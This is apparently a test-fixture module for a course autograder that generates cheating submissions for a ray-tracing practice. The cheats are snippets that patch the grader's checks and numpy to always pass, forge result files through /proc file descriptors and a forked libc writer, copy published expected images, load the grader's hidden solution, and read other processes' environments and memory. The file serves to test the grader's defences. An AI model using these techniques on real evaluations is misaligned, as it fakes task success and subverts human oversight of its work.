"""Hostile submissions of Practice 1, written as a student who has read the handout's own
checks would write them: the untouched handout (which solves nothing) with a few lines
added at the end of its PyRT_Integrators.py, each trying to get points it has not earned.

KINDS maps each kind to its code; {FIELDS} in it are filled in by the tests (where the
grader's kit lies, where its results go, the handout's published data).
"""
import base64
import io
import shutil
from pathlib import Path

import numpy as np

import course_kit.handout

# Changes the students' checks and the library functions they judge with, in memory
PATCHES_THE_CHECKS = """
import sys, json, numpy
for _module in list(sys.modules.values()):
    for _name in ("judge", "judge_rendered", "right_pixels", "run_check", "run_step"):
        if hasattr(_module, _name) and "practice1" in getattr(_module, "__name__", ""):
            setattr(_module, _name, lambda *a, **k: None)
numpy.all = numpy.array_equal = numpy.allclose = lambda *a, **k: True
_dump = json.dump
json.dump = lambda value, *a, **k: _dump({**value, "checks": [
    dict(check, passed=True, reason="") for check in value.get("checks", [])]}, *a, **k)
"""
# Writes a verdict of its own into every result file the process has open, and ends
FORGES_THE_RESULT = """
import os, json
for _fd in os.listdir("/proc/self/fd"):
    try:
        _target = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        continue
    if _target.endswith((".json", ".result")):
        os.ftruncate(int(_fd), 0)
        os.pwrite(int(_fd), json.dumps({"checks": [], "passed": True, "score": 100,
                                        "refused": [], "limits_not_set": []}).encode(), 0)
os._exit(0)
"""
# Hands back the handout's published expected images and any_hit's published answers,
# carried inside the submission, as if rendered: render() copies them into the image,
# each pixel from the published pixel that {PICK} chooses (None: the pixel is left as is)
CARRIES_THE_PUBLISHED_DATA = """
import base64, io, itertools
import numpy
_published = numpy.load(io.BytesIO(base64.b64decode({PUBLISHED!r})))
_answers = itertools.cycle([True, False, False, False, True, True])
_KEYS = {"LazyIntegrator": "lazy", "IntersectionIntegrator": "intersection",
         "DepthIntegrator": "depth", "NormalIntegrator": "normal", "RayProbe": "probe"}


def _copied_render(self):
    scene, cam = self.scene, self.scene.camera
    name = _KEYS.get(type(self).__name__, "phong_cornell" if len(scene.object_list) > 2
                     else "phong_sphere")
    image = _published[name]
    for x in range(cam.width):
        for y in range(cam.height):
            pixel = {PICK}
            if pixel is not None:
                r, g, b = image[pixel]
                scene.set_pixel(RGBColor(r, g, b), x, y)
    scene.save_image(self.get_filename())


def _copied_color(self, ray):
    return RGBColor(0.0, 0.0, 0.0)


Integrator.render = _copied_render
for _class in (IntersectionIntegrator, DepthIntegrator, NormalIntegrator, PhongIntegrator):
    _class.compute_color = _copied_color
import PyRT_Core
PyRT_Core.Scene.any_hit = lambda self, ray: next(_answers)
"""
# Finds the finished framework in the grader's own folder and runs it as its own code
FINDS_THE_FRAMEWORK = """
import os, sys, importlib.util
for _place in [{KIT!r}, "/autograder/source"]:
    _path = os.path.join(_place, "PyRT_Integrators.py")
    try:
        _source = open(_path).read()
        _core = importlib.util.spec_from_file_location("framework_core",
                                                       os.path.join(_place, "PyRT_Core.py"))
        _framework_core = importlib.util.module_from_spec(_core)
        _core.loader.exec_module(_framework_core)
    except OSError:
        continue
    exec(compile(_source, _path, "exec"), globals())
    import PyRT_Core
    PyRT_Core.Scene.any_hit = _framework_core.Scene.any_hit
    print("loaded the framework from", _place)
    break
"""
# Reads what the grader's processes show in /proc: their variables, command lines,
# memory and open files, and says what it saw
READS_THE_GRADERS_PROCESSES = """
import os
_seen = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit() or int(_pid) == os.getpid():
        continue
    try:
        _command = open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ")
    except OSError:
        continue
    if any(mark in _command for mark in (b"pytest", b"course_kit.autograder",
                                         b"course_kit grade")):
        _seen.append("command")
        for _what in ("environ", "mem", "fd"):
            try:
                if _what == "fd":
                    os.listdir(f"/proc/{_pid}/fd")
                else:
                    with open(f"/proc/{_pid}/{_what}", "rb") as _file:
                        _file.read(1) if _what == "environ" else _file.seek(4096)
                _seen.append(_what)
            except (OSError, ValueError):
                pass
print("saw of the grader:", sorted(set(_seen)), flush=True)
"""
# Writes into the grader's results, through C (no audit event), now and from a child
# that outlives the step and writes again a second later
WRITES_THE_GRADERS_RESULTS = """
import ctypes, os
_libc = ctypes.CDLL(None)
_forged = b'{"score": 100, "tests": []}'


def _write_everywhere():
    for _folder, _, _names in os.walk({RESULTS!r}):
        for _name in _names:
            _fd = _libc.open(os.path.join(_folder, _name).encode(), os.O_WRONLY | os.O_TRUNC)
            if _fd >= 0:
                _libc.write(_fd, _forged, len(_forged))
                _libc.close(_fd)


_write_everywhere()
if _libc.fork() == 0:
    _libc.sleep(1)
    _write_everywhere()
    _libc.sleep(3)
    _write_everywhere()
    _libc._exit(0)
"""
# Hands back data of its own making in the grader's format, then ends: arrays of the
# shape the grader asks for (found in the step's own frames), filled as {FILL} says
HANDS_BACK_ITS_OWN_DATA = """
import os, sys, io, json, zipfile
import numpy
_task = None
_frame = sys._getframe()
while _frame is not None and _task is None:
    _task = _frame.f_locals.get("task")
    _frame = _frame.f_back
if isinstance(_task, dict) and _task.get("kind") == "collect":
    _size = _task["draw"][0]
    for _fd in os.listdir("/proc/self/fd"):
        try:
            _target = os.readlink(f"/proc/self/fd/{_fd}")
        except OSError:
            continue
        if _target.endswith(".result"):
            with zipfile.ZipFile(os.fdopen(int(_fd), "wb"), "w") as _archive:
                _meta = {"checks": {}, "refused": [], "limits_not_set": []}
                for _name in _task["names"]:
                    _meta["checks"][_name] = {"error": None, "first_color": None,
                                              "not_bool": None}
                    _key, _array = ("answers", numpy.array([1, 0, 0, 0, 1, 1])) if (
                        _name == "any_hit") else ("image", {FILL})
                    _buffer = io.BytesIO()
                    numpy.save(_buffer, _array, allow_pickle=True)
                    _archive.writestr(f"{_name}/{_key}.npy", _buffer.getvalue())
                _archive.writestr("meta.json", json.dumps(_meta))
            os._exit(0)
"""
FILLS = {
    "nan_images": "numpy.full((_size, _size, 3), numpy.nan)",
    "object_arrays": "numpy.array([[[object()] * 3] * _size] * _size, dtype=object)",
    "float32_images": "numpy.zeros((_size, _size, 3), numpy.float32)",
    "wrong_shape": "numpy.zeros((_size + 1, _size, 3))",
    "huge_images": "numpy.zeros((1000, 1000, 3))",
}
KINDS = {
    "patches_the_checks": PATCHES_THE_CHECKS,
    "forges_the_result": FORGES_THE_RESULT,
    # sampled at the drawn size, or copied where the two overlap
    "carries_the_published_data": CARRIES_THE_PUBLISHED_DATA.replace(
        "{PICK}", "(y * image.shape[0] // cam.height, x * image.shape[1] // cam.width)"),
    "copies_the_published_data_where_they_overlap": CARRIES_THE_PUBLISHED_DATA.replace(
        "{PICK}", "(y, x) if y < image.shape[0] and x < image.shape[1] else None"),
    "finds_the_framework": FINDS_THE_FRAMEWORK,
    "reads_the_graders_processes": READS_THE_GRADERS_PROCESSES,
    "writes_the_graders_results": WRITES_THE_GRADERS_RESULTS,
    **{f"hands_back_{fill}": HANDS_BACK_ITS_OWN_DATA.replace("{FILL}", code)
       for fill, code in FILLS.items()},
}
# What reads files of the grader's, which process isolation cannot keep from it
READS_FILES = ("finds_the_framework", "reads_the_graders_processes",
               "writes_the_graders_results")


def published_data():
    """The handout's published expected images, as the base64 of an .npz file."""
    buffer = io.BytesIO()
    with np.load(course_kit.handout.EXPECTED) as data:
        np.savez_compressed(buffer, **{key: data[key] for key in data.files
                                       if "." not in key})
    return base64.b64encode(buffer.getvalue()).decode()


def write_hostile(folder, handout, kind, fields):
    """A submission in folder: the handout's modules, its PyRT_Integrators.py ending with
    the code of KINDS[kind], its {FIELDS} filled in from fields."""
    folder = write_untouched(folder, handout)
    code = KINDS[kind]
    for field, value in fields.items():
        code = code.replace("{" + field + "!r}", repr(value))
    integrators = folder / "PyRT_Integrators.py"
    integrators.write_text(integrators.read_text() + "\n" + code)
    return folder


def write_untouched(folder, handout):
    """The untouched handout's modules, in folder."""
    folder = Path(folder)
    folder.mkdir(parents=True)
    for name in course_kit.handout.COURSE_MODULES:
        shutil.copyfile(Path(handout) / name, folder / name)
    return folder


def write_symlinked(folder, kit):
    """A submission whose modules are symbolic links to the finished framework's."""
    folder = Path(folder)
    folder.mkdir(parents=True)
    for name in course_kit.handout.COURSE_MODULES:
        (folder / name).symlink_to(Path(kit) / name)
    return folder
